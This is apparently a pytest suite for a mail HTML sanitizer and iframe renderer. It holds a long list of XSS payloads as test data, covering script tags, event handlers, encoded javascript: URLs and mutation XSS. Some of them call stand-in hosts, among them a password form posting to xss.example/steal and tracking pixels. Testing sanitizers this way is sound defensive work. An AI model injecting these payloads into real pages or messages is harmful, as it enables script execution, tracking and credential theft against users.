"""html_sanitize, cid_references and html_for_iframe: classic XSS payloads come out inert, remote
loads are gone, links are safe, and the iframe document carries its CSP and stylesheet."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from apps.merchants.mail import cid_references, html_for_iframe, html_sanitize
from apps.merchants.mail.sanitize import CSP, MAX_DATA_IMAGE_CHARS

PNG = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6"
       "kgAAAABJRU5ErkJggg==")

# OWASP filter-evasion style payloads, mutation XSS, and what mail adds: forms, remote CSS,
# refresh, base URLs and tracking images.
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
    '<a href="jav\x00ascript:alert(1)">nul</a>',
    '<a href=" &#14;  javascript:alert(1)">leading controls</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">hex entities</a>',
    '<a href="javascript&colon;alert(1)">named entity</a>',
    '<a href="JaVaScRiPt:alert(1)">case</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="#" onclick="alert(1)">click</a>',
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="http://xss.example/x.swf">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<style>@import 'http://xss.example/x.css';</style><p>styled</p>",
    '<link rel="stylesheet" href="http://xss.example/x.css">',
    '<base href="http://xss.example/"><a href="/path">relative</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="http://xss.example/steal"><input name="password"><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<isindex action="javascript:alert(1)" type="image">',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "<video><source onerror=alert(1)></video>",
    '<div style="background:url(javascript:alert(1))">bg</div>',
    '<div style="width: expression(alert(1))">expression</div>',
    '<div style="background-image: url(http://tracker.example/bg.png)">tracked</div>',
    '<table background="http://tracker.example/bg.png"><tr>'
    '<td background="javascript:alert(1)" style="color:red;background:url(http://t.example/x)">t</td></tr></table>',
    '<img src="http://tracker.example/pixel.gif" width="1" height="1">',
    '<img srcset="http://tracker.example/x.png 1x" src="cid:logo@example">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    "<template><script>alert(1)</script></template>",
    '<a href="http://ok.example/" target="_self" rel="opener">ok</a>',
]
FORBIDDEN = {"script", "iframe", "object", "embed", "form", "base", "meta", "link", "style", "input",
             "button", "textarea", "select", "frame", "frameset", "svg", "math", "applet", "isindex",
             "template", "video", "audio", "source", "noscript"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "xlink:href", "data", "srcset",
                  "poster", "lowsrc", "dynsrc", "cite", "srcdoc"}
CONTROLS = re.compile(r"[\x00-\x20\x7f]+")


class Collector(HTMLParser):
    """Every element and attribute as a browser would read them (entities decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {key: value or "" for key, value in attrs}))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector.elements


def assert_inert(html: str) -> None:
    for tag, attrs in elements(html):
        assert tag not in FORBIDDEN, html
        for name, value in attrs.items():
            assert not name.startswith("on"), html
            compact = CONTROLS.sub("", value).lower()
            assert "javascript:" not in compact and "vbscript:" not in compact, html
            if name in URL_ATTRIBUTES:
                assert tag in ("a", "img") and name in ("href", "src"), html
                if tag == "img":
                    assert compact.startswith(("cid:", "data:image/png", "data:image/gif",
                                               "data:image/jpeg", "data:image/webp")), html
                else:
                    assert compact.startswith(("http:", "https:", "mailto:", "tel:", "#")), html
            if name == "style":
                assert "url(" not in compact and "expression" not in compact and "@import" not in compact
        if tag == "a":
            assert set(attrs.get("rel", "").split()) == {"noopener", "noreferrer", "nofollow"}
            assert attrs.get("target") == "_blank"


@pytest.mark.parametrize("payload", XSS)
def test_classic_payloads_come_out_inert(payload):
    assert_inert(html_sanitize(payload))


def test_there_are_enough_payloads():
    assert len(XSS) >= 25


def test_all_payloads_together_and_nested_come_out_inert():
    everything = "".join(XSS)
    assert_inert(html_sanitize(everything))
    assert_inert(html_sanitize("<div>" + "<blockquote>".join(XSS) + "</div>"))


def test_formatting_and_safe_links_survive():
    html = ('<div dir="ltr" style="color:#333;font-family:Arial;position:fixed"><p align="center">'
            '<b>Bold</b> <a href="https://shop.example/o/42">order</a> '
            '<a href="mailto:s@example.com">mail</a>'
            '</p><table width="600" cellpadding="4"><tr><td bgcolor="#eee" colspan="2">cell</td></tr></table>'
            '<img src="cid:logo@example" alt="Logo" width="120"></div>')
    clean = html_sanitize(html)
    assert 'style="color:#333;font-family:Arial"' in clean  # position is not kept
    assert '<p align="center"><b>Bold</b>' in clean
    links = [attrs for tag, attrs in elements(clean) if tag == "a"]
    assert links[0] == {"href": "https://shop.example/o/42", "target": "_blank",
                        "rel": "noopener noreferrer nofollow"}
    assert 'href="mailto:s@example.com"' in clean
    assert '<td bgcolor="#eee" colspan="2">cell</td>' in clean
    assert '<img src="cid:logo@example" alt="Logo" width="120">' in clean


@pytest.mark.parametrize(("src", "kept"), [
    ("cid:logo@example", True),
    (PNG, True),
    ("data:image/png;base64," + "A" * MAX_DATA_IMAGE_CHARS, False),  # too large to inline
    ("data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=", False),
    ("data:text/html;base64,PHA+", False),
    ("http://tracker.example/open.gif?id=1", False),
    ("https://cdn.example/logo.png", False),
    ("//tracker.example/open.gif", False),
    ("/api/v1/hub/attachments/1", False),  # a sender's relative URL would request our own site
    ("open.gif", False),
])
def test_image_sources(src, kept):
    clean = html_sanitize(f'<img src="{src}" alt="a">')
    assert ("src=" in clean) is kept
    assert 'alt="a"' in clean


def test_cid_references_in_order_once_each_and_decoded():
    html = ('<img src="cid:one@example"><p><IMG SRC="CID:two%40example"></p><img src="cid:one@example">'
            '<img src="http://x.example/a.png"><a href="cid:not-an-image">x</a><img src="cid:<three>">'
            "<img src='cid:'>")
    assert cid_references(html) == ["one@example", "two@example", "three"]
    assert cid_references("") == []
    assert cid_references("<p><img src=cid:broken></p <<< <!x") == ["broken"]


def test_iframe_document_has_charset_csp_and_one_stylesheet():
    document = html_for_iframe('<p>Hello</p><script>alert(1)</script><img src="http://t.example/p.gif">')
    assert document.startswith("<!DOCTYPE html><html><head>")
    head, body = document.split("<body>")
    assert '<meta charset="utf-8">' in head
    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', head)
    assert csp and csp.group(1).replace("&#x27;", "'") == CSP
    assert CSP == ("default-src 'none'; img-src data: cid: 'self'; style-src 'unsafe-inline'; "
                   "base-uri 'none'; form-action 'none'")
    assert "max-width" in head and "overflow-wrap" in head and "system-ui" in head
    assert "img { max-width: 100%" in head
    assert body == "<p>Hello</p><img></body></html>"


def test_iframe_body_is_sanitised_again_but_keeps_rewritten_attachment_urls():
    body = html_sanitize('<img src="cid:logo@example">').replace("cid:logo@example", "/hub/attachments/7/")
    document = html_for_iframe(body + '<a href="javascript:alert(1)">x</a><img src="//evil.example/x">')
    assert '<img src="/hub/attachments/7/">' in document
    assert_inert(document.split("<body>")[1].replace('src="/hub/attachments/7/"', 'src="cid:rewritten"'))
    assert "evil.example" not in document


@pytest.mark.parametrize("opening", ["<div>", "<div></span>", "<blockquote></x>", "<b>"])
def test_deep_nesting_is_sanitised_quickly(opening):
    """nh3 slows with the square of nesting depth; such markup is first rebuilt with a cap."""
    import time

    html = opening * 80_000 + "deep <script>alert(1)</script>" + "</div>" * 80_000
    started = time.perf_counter()
    clean = html_sanitize(html)
    assert time.perf_counter() - started < 10  # minutes without the cap
    assert "deep" in clean and "script" not in clean
    assert_inert(clean)


@pytest.mark.browser
def test_iframe_document_runs_and_loads_nothing_in_a_browser(page):
    """The whole payload list, rendered as the hub would: no dialog, no request leaves."""
    dialogs: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(request.url))
    page.set_content(html_for_iframe("<p>rendered</p>" + "".join(XSS)), wait_until="load")
    page.locator("details").first.evaluate("element => { element.open = !element.open; }")
    # A handler that survived would have fired by now: the document and its images have loaded.
    page.wait_for_load_state("load")
    assert page.locator("p", has_text="rendered").count() == 1
    assert dialogs == []
    assert [url for url in requests if not url.startswith(("data:", "about:", "cid:"))] == []
